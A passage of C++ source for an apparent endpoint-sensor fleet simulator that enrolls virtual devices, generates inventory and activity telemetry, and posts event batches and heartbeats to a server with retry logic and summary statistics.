    d.worker = daemon_proc(1420, d.daemon, "/usr/lib/postfix/sbin/qmgr", "qmgr -l -t unix -u", "postfix", 10);
  } else {  // jump host: sshd is the service
    d.daemon = d.sshd;
    d.worker = d.sshd;
  }
}

SimDevice::~SimDevice() = default;
SimDevice::SimDevice(SimDevice&&) noexcept = default;
SimDevice& SimDevice::operator=(SimDevice&&) noexcept = default;

const std::string& SimDevice::name() const { return impl_->name; }

DeviceFacts SimDevice::Facts() const {
  const Impl& d = *impl_;
  DeviceFacts f;
  f.host_id = d.host_id;
  f.computer_dns_name = d.name;
  f.domain = "corp.local";
  f.os_version = d.distro.version;
  f.os_distribution = d.distro.name;
  f.os_architecture = "x86_64";
  f.sensor_version = kVersion;
  f.ip_addresses = {d.ip};
  f.tags = d.tags;
  return f;
}

void SimDevice::Activity(std::mt19937_64& rng, int64_t now, bool suspicious, std::vector<json::Value>& out) {
  Impl& d = *impl_;
  if (suspicious) {
    d.Suspicious(rng, now, out);
    return;
  }
  int r = static_cast<int>(rng() % 100);
  if (r < 42) {
    d.ProcessActivity(rng, now, out);
  } else if (r < 72) {
    d.NetworkActivity(rng, now, out);
  } else if (r < 94) {
    d.FileActivity(rng, now, out);
  } else {
    d.LogonActivity(rng, now, out);
  }
}

void SimDevice::Inventory(int64_t now, std::vector<json::Value>& out) {
  Impl& d = *impl_;
  OsFacts os;
  os.distribution = d.distro.name;
  os.version = d.distro.version;
  os.pretty_name = d.distro.pretty;
  os.kernel = d.distro.kernel;
  os.machine = "x86_64";
  std::vector<std::string> users;
  for (int pid : d.sessions) {
    if (const ProcessInfo* p = d.Find(pid)) users.push_back(p->account_name);
  }
  json::Value info = DeviceInfoEvent(os, d.name, users, d.tags, d.role == "dev" ? "Workstation" : "Server", now);
  // The builder reads the local machine's DMI; a virtual device has its own.
  info.Set("Model", json::Value("Virtual Machine"));
  info.Set("Vendor", json::Value("Microsoft Corporation"));
  info.Set("LoggedOnUsers", json::Value([&] {
             json::Writer w;
             w.StartArray();
             for (const auto& u : users) w.StartObject().KV("UserName", u).KV("DomainName", d.short_name).EndObject();
             w.EndArray();
             return w.Take();
           }()));
  if (d.role == "web" || d.role == "mail") info.Set("IsInternetFacing", json::Value(true));
  out.push_back(std::move(info));
  Interface eth;
  eth.name = "eth0";
  eth.mac = d.mac;
  eth.type = "Ethernet";
  eth.up = true;
  eth.addresses = {IpAddress{d.ip, 24, false}};
  out.push_back(DeviceNetworkInfoEvent(eth, {"10.0.0.53", "10.0.1.53"}, {d.gateway}, now));
  Interface lo;
  lo.name = "lo";
  lo.type = "SoftwareLoopback";
  lo.up = true;
  lo.addresses = {IpAddress{"127.0.0.1", 8, false}, IpAddress{"::1", 128, true}};
  out.push_back(DeviceNetworkInfoEvent(lo, {}, {}, now));
}

// ------------------------------------------------------------------ runner

namespace {

struct SimBatch {
  int device = 0;
  std::string batch_id;
  std::string body;  // NDJSON, compressed by the sender
  uint32_t events = 0;
};

struct SimState {
  std::mutex mu;
  std::condition_variable cv_space;
  std::condition_variable cv_items;
  std::deque<SimBatch> queue;
  size_t max_queue = 16;
  bool done = false;
  // Totals.
  std::atomic<uint64_t> sent{0}, accepted{0}, rejected{0}, retries{0}, failed_events{0}, batches{0}, duplicates{0};
};

std::atomic<bool> g_stop{false};
void OnSignal(int) { g_stop = true; }

std::string FormatDouble(double v) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.1f", v);
  return buf;
}

}  // namespace

int RunSimulator(const SimulateOptions& options) {
  if (options.devices <= 0 || options.rate <= 0) {
    std::fprintf(stderr, "simulate: --devices and --rate must be positive\n");
    return 2;
  }
  auto onboarding = LoadOnboardingFile(options.onboarding_file);
  if (!onboarding) {
    std::fprintf(stderr, "simulate: %s\n", onboarding.error().message().c_str());
    return 2;
  }
  ::signal(SIGINT, OnSignal);
  ::signal(SIGTERM, OnSignal);
  ::signal(SIGPIPE, SIG_IGN);
  int senders = options.senders > 0 ? options.senders : std::min(options.devices, 4);

  std::vector<SimDevice> devices;
  devices.reserve(static_cast<size_t>(options.devices));
  for (int i = 0; i < options.devices; ++i) devices.emplace_back(i, options.seed);

  // ---- enrollment (parallel, reusing stored credentials) ----
  std::vector<std::optional<Identity>> ids(static_cast<size_t>(options.devices));
  std::map<int, Identity> stored;
  std::string store_path = options.state_dir.empty() ? "" : JoinPath(options.state_dir, "sim-identities.json");
  if (!store_path.empty()) {
    if (!MakeDirs(options.state_dir).ok()) return 1;
    if (auto text = ReadFile(store_path, 256 * 1024 * 1024)) {
      if (auto v = json::Value::Parse(*text); v && v->is_object() &&
                                              v->GetString("serverUrl").value_or("") == onboarding->server_url) {
        if (const json::Value* devs = v->Find("devices"); devs && devs->is_object()) {
          for (const auto& m : devs->members()) {
            Identity id;
            id.device_id = m.value.GetString("deviceId").value_or("");
            id.credential = m.value.GetString("credential").value_or("");
            id.server_url = onboarding->server_url;
            id.server_cert_sha256 = onboarding->server_cert_sha256;
            if (!id.device_id.empty()) stored[std::atoi(m.key.c_str())] = id;
          }
        }
      }
    }
  }
  std::atomic<int> next{0};
  std::atomic<int> enroll_failures{0};
  {
    std::vector<std::thread> workers;
    for (int t = 0; t < std::min(senders * 2, options.devices); ++t) {
      workers.emplace_back([&] {
        http::Client client(ClientOptionsFor(onboarding->server_cert_sha256));
        std::mt19937_64 rng(std::random_device{}());
        while (!g_stop) {
          int i = next++;
          if (i >= options.devices) return;
          if (auto it = stored.find(i); it != stored.end()) {
            ids[static_cast<size_t>(i)] = it->second;
            continue;
          }
          for (int attempt = 0; attempt < 6 && !g_stop; ++attempt) {
            auto id = Enroll(client, *onboarding, devices[static_cast<size_t>(i)].Facts());
            if (id) {
              ids[static_cast<size_t>(i)] = std::move(*id);
              break;
            }
            if (id.error().code() != StatusCode::kUnavailable) {
              log::Error("simulate: enrollment rejected", {{"device", devices[static_cast<size_t>(i)].name()}, {"error", id.error().message()}});
              break;
            }
            std::this_thread::sleep_for(RetryBackoff(attempt, std::chrono::milliseconds(200), std::chrono::seconds(5), rng));
          }
          if (!ids[static_cast<size_t>(i)]) ++enroll_failures;
        }
      });
    }
    for (auto& w : workers) w.join();
  }
  if (!store_path.empty()) {
    json::Writer w;
    w.StartObject().KV("serverUrl", onboarding->server_url).Key("devices").StartObject();
    for (int i = 0; i < options.devices; ++i) {
      if (!ids[static_cast<size_t>(i)]) continue;
      w.Key(std::to_string(i)).StartObject();
      w.KV("deviceId", ids[static_cast<size_t>(i)]->device_id).KV("credential", ids[static_cast<size_t>(i)]->credential);
      w.EndObject();
    }
    w.EndObject().EndObject();
    if (Status st = WriteFileAtomic(store_path, w.str(), 0600); !st.ok()) log::Warn("cannot save simulator identities", {{"error", st.message()}});
  }
  int enrolled = 0;
  for (const auto& id : ids) enrolled += id.has_value();
  if (enrolled == 0) {
    std::fprintf(stdout, "{\"devices\":%d,\"enrolled\":0,\"error\":\"no device could enroll\"}\n", options.devices);
    return 1;
  }
  log::Info("simulate: devices enrolled", {{"enrolled", std::to_string(enrolled)}});

  // ---- machine actions ----
  SimActionOptions aopt;
  aopt.failure_fraction = options.action_failure_fraction;
  aopt.offline_fraction = options.offline_fraction;
  SimActionResponder responder(&ids, aopt, options.seed);
  responder.Start();

  // ---- heartbeats ----
  // Every online device heartbeats at the interval the server asked for, spread over that interval,
  // as real sensors do: without them the server reports the fleet as ImpairedCommunication.
  std::mutex heartbeat_mu;
  std::condition_variable heartbeat_cv;
  bool heartbeats_done = false;
  std::thread heartbeat_thread([&] {
    http::Client client(ClientOptionsFor(onboarding->server_cert_sha256));
    std::vector<size_t> online;
    for (size_t i = 0; i < ids.size(); ++i) {
      if (ids[i] && !responder.offline(i)) online.push_back(i);
    }
    if (online.empty()) return;
    const auto interval = std::chrono::seconds(std::max(ids[online.front()]->heartbeat_seconds, 1));
    const auto step = std::chrono::duration_cast<std::chrono::milliseconds>(interval) / static_cast<int64_t>(online.size());
    const std::string body = "{\"sensorVersion\":" + json::Quote(kVersion) + "}";
    for (size_t next = 0;; next = (next + 1) % online.size()) {
      {
        std::unique_lock lock(heartbeat_mu);
        if (heartbeat_cv.wait_for(lock, step, [&] { return heartbeats_done || g_stop.load(); })) return;
      }
      const Identity& id = *ids[online[next]];
      http::ClientRequest req;
      req.method = "POST";
      req.url = id.Url("/sensor/v1/heartbeat");
      req.headers.Add("Authorization", id.AuthorizationHeader());
      req.headers.Add("Content-Type", "application/json");
      req.body = body;
      (void)client.Send(req);  // a missed heartbeat is what the server's health is there to show
    }
  });

  // ---- senders ----
  SimState state;
  state.max_queue = static_cast<size_t>(senders) * 4;
  std::vector<std::thread> sender_threads;
  for (int t = 0; t < senders; ++t) {
    sender_threads.emplace_back([&] {
      http::Client client(ClientOptionsFor(onboarding->server_cert_sha256));
      std::mt19937_64 rng(std::random_device{}());
      while (true) {
        SimBatch b;
        {
          std::unique_lock lock(state.mu);
          state.cv_items.wait(lock, [&] { return state.done || !state.queue.empty(); });
          if (state.queue.empty()) return;
          b = std::move(state.queue.front());
          state.queue.pop_front();
        }
        state.cv_space.notify_one();
        const Identity& id = *ids[static_cast<size_t>(b.device)];
        http::ClientRequest req;
        req.method = "POST";
        req.url = id.Url("/sensor/v1/events");
        req.headers.Add("Authorization", id.AuthorizationHeader());
        req.headers.Add("X-Ward-Batch-Id", b.batch_id);
        req.headers.Add("Content-Type", "application/x-ndjson");
        req.headers.Add("Content-Encoding", "zstd");
        req.body = ZstdCompress(b.body);
        bool ok = false;
        for (int attempt = 0; attempt < 8; ++attempt) {
          if (attempt > 0) {
            state.retries++;
            std::this_thread::sleep_for(RetryBackoff(attempt - 1, std::chrono::milliseconds(250), std::chrono::seconds(10), rng));
          }
          auto res = client.Send(req);
          if (res && res->status == 200) {
            uint64_t rejected = 0, accepted = b.events;
            if (auto body = json::Value::Parse(res->body); body && body->is_object()) {
              if (const json::Value* r = body->Find("rejected"); r && r->is_array()) rejected = r->items().size();
              accepted = static_cast<uint64_t>(body->GetInt("accepted").value_or(static_cast<int64_t>(b.events - rejected)));
              if (body->GetBool("duplicate").value_or(false)) state.duplicates++;
            }
            state.sent += b.events;
            state.accepted += accepted;
            state.rejected += rejected;
            state.batches++;
            ok = true;
            break;
          }
          if (res && res->status != 408 && res->status != 429 && res->status < 500) {
            log::Warn("simulate: batch refused", {{"status", std::to_string(res->status)},
                                                   {"error", StatusFromResponse(*res, "events").message()}});
            break;
          }
          if (g_stop && attempt >= 2) break;
        }
        if (!ok) state.failed_events += b.events;
      }
    });
  }

  // ---- generator ----
  struct Pending {
    std::string body;
    uint32_t events = 0;
    std::chrono::steady_clock::time_point first;
    int64_t report_id = ReportIdBase();  // distinct across runs that reuse the devices
    int64_t next_inventory = 0;  // ticks
  };
  std::vector<Pending> pending(static_cast<size_t>(options.devices));
  std::mt19937_64 rng(options.seed);
  std::vector<int> active;
  for (int i = 0; i < options.devices; ++i) {
    if (ids[static_cast<size_t>(i)]) active.push_back(i);
  }
  auto push_batch = [&](int device) {
    Pending& p = pending[static_cast<size_t>(device)];
    if (p.events == 0) return;
    SimBatch b{device, NewGuid(), std::move(p.body), p.events};
    p.body.clear();
    p.events = 0;
    std::unique_lock lock(state.mu);
    state.cv_space.wait(lock, [&] { return state.queue.size() < state.max_queue; });
    state.queue.push_back(std::move(b));
    lock.unlock();
    state.cv_items.notify_one();
  };
  auto add = [&](int device, std::vector<json::Value>& events) {
    Pending& p = pending[static_cast<size_t>(device)];
    for (json::Value& ev : events) {
      ev.AppendMember("ReportId", json::Value(p.report_id++));
      if (p.events == 0) p.first = std::chrono::steady_clock::now();
      p.body += ev.Serialize();
      p.body.push_back('\n');
      ++p.events;
      if (p.events >= options.max_batch_events) push_batch(device);
    }
    events.clear();
  };

  auto start = std::chrono::steady_clock::now();
  uint64_t generated = 0, suspicious = 0;
  std::vector<json::Value> events;
  std::bernoulli_distribution is_suspicious(options.suspicious_fraction);
  auto last_sweep = start;
  while (!g_stop) {
    auto now_steady = std::chrono::steady_clock::now();
    double elapsed = std::chrono::duration<double>(now_steady - start).count();
    if (options.duration_seconds > 0 && elapsed >= options.duration_seconds) break;
    double target = options.rate * elapsed;
    int64_t now = NowTicks();
    while (static_cast<double>(generated) < target && !g_stop) {
      int device = active[rng() % active.size()];
      Pending& p = pending[static_cast<size_t>(device)];
      if (now >= p.next_inventory) {
        devices[static_cast<size_t>(device)].Inventory(now, events);
        p.next_inventory = now + 15 * 60 * kSecond;
      } else {
        bool bad = is_suspicious(rng);
        suspicious += bad;
        devices[static_cast<size_t>(device)].Activity(rng, now, bad, events);
      }
      generated += events.size();
      add(device, events);
    }
    // Ship batches that waited a second.
    if (now_steady - last_sweep >= std::chrono::milliseconds(100)) {
      last_sweep = now_steady;
      for (int device : active) {
        Pending& p = pending[static_cast<size_t>(device)];
        if (p.events > 0 && now_steady - p.first >= std::chrono::seconds(1)) push_batch(device);
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  for (int device : active) push_batch(device);
  {
    std::lock_guard lock(state.mu);
    state.done = true;
  }
  state.cv_items.notify_all();
  for (auto& t : sender_threads) t.join();
  {
    std::lock_guard lock(heartbeat_mu);
    heartbeats_done = true;
  }
  heartbeat_cv.notify_all();
  heartbeat_thread.join();
  responder.Stop();
  const SimActionStats actions = responder.stats();
  double elapsed = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();

  json::Writer w;
  w.StartObject();
  w.KV("devices", static_cast<int64_t>(options.devices));
  w.KV("enrolled", static_cast<int64_t>(enrolled));
  w.KV("enrollFailures", static_cast<int64_t>(enroll_failures.load()));
  w.Key("durationSeconds").Double(std::stod(FormatDouble(elapsed)));
  w.KV("generated", static_cast<int64_t>(generated));
  w.KV("suspiciousActivities", static_cast<int64_t>(suspicious));
  w.KV("sent", static_cast<int64_t>(state.sent.load()));
  w.KV("accepted", static_cast<int64_t>(state.accepted.load()));
  w.KV("rejected", static_cast<int64_t>(state.rejected.load()));
  w.KV("failed", static_cast<int64_t>(state.failed_events.load()));
  w.KV("batches", static_cast<int64_t>(state.batches.load()));
  w.KV("duplicates", static_cast<int64_t>(state.duplicates.load()));
  w.KV("retries", static_cast<int64_t>(state.retries.load()));
  w.Key("actions").StartObject().KV("received", static_cast<int64_t>(actions.received));
  w.KV("succeeded", static_cast<int64_t>(actions.succeeded)).KV("failed", static_cast<int64_t>(actions.failed)).EndObject();
  w.Key("eventsPerSecond").Double(std::stod(FormatDouble(elapsed > 0 ? static_cast<double>(state.sent.load()) / elapsed : 0)));
  w.EndObject();
  std::fprintf(stdout, "%s\n", w.str().c_str());
  std::fflush(stdout);
  return state.failed_events.load() == 0 && enroll_failures.load() == 0 ? 0 : 1;
}

}  // namespace ward::sensor
